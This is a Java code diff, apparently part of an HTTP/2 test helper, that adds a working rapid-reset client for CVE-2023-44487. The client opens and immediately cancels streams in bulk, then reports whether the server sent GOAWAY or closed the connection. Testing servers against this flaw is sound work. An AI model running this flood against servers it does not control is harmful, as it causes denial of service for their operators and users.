@@ -83,6 +83,59 @@ public final class RawHttp2 {
         return read(socket);
     }
 
+    /**
+     * A rapid-reset client (CVE-2023-44487): opens {@code streams} requests with {@code fields}, each reset at once
+     * (RST_STREAM, CANCEL) right after its HEADERS, then reads until the server ends the connection. Returns how the
+     * connection ended ({@code goaway} or {@code closed}) and how many streams were written before it did.
+     */
+    public static Answer rapidReset(SSLSocket socket, List<Field> fields, int streams) throws IOException {
+        SSLParameters parameters = socket.getSSLParameters();
+        parameters.setApplicationProtocols(new String[] {"h2"});
+        socket.setSSLParameters(parameters);
+        socket.startHandshake();
+        OutputStream out = new java.io.BufferedOutputStream(socket.getOutputStream(), 64 * 1024);
+        out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
+        frameUnflushed(out, SETTINGS, 0, 0, new byte[0]);
+        byte[] block = encode(fields);
+        byte[] cancel = {0, 0, 0, 8};
+        int written = 0;
+        try {
+            for (int i = 0; i < streams; i++) {
+                int stream = 2 * i + 1;
+                frameUnflushed(out, HEADERS, END_STREAM | END_HEADERS, stream, block);
+                frameUnflushed(out, RST_STREAM, 0, stream, cancel);
+                written++;
+                if (i % 50 == 49) {
+                    out.flush();
+                }
+            }
+            out.flush();
+        } catch (SocketException cutOff) {
+            return new Answer(0, String.valueOf(written), "closed");
+        }
+        DataInputStream in = new DataInputStream(socket.getInputStream());
+        try {
+            while (true) {
+                int length = (in.readUnsignedShort() << 8) | in.readUnsignedByte();
+                int type = in.readUnsignedByte();
+                in.readUnsignedByte();
+                in.readInt();
+                in.readNBytes(length);
+                if (type == GOAWAY) {
+                    return new Answer(0, String.valueOf(written), "goaway");
+                }
+            }
+        } catch (EOFException | SocketException closed) {
+            return new Answer(0, String.valueOf(written), "closed");
+        }
+    }
+
+    private static void frameUnflushed(OutputStream out, int type, int flags, int stream, byte[] payload) throws IOException {
+        out.write(new byte[] {(byte) (payload.length >>> 16), (byte) (payload.length >>> 8), (byte) payload.length,
+                (byte) type, (byte) flags, (byte) (stream >>> 24), (byte) (stream >>> 16), (byte) (stream >>> 8), (byte) stream});
+        out.write(payload);
+    }
+
     private static Answer read(SSLSocket socket) throws IOException {
         DataInputStream in = new DataInputStream(socket.getInputStream());
         DefaultHttp2HeadersDecoder decoder = new DefaultHttp2HeadersDecoder(false);
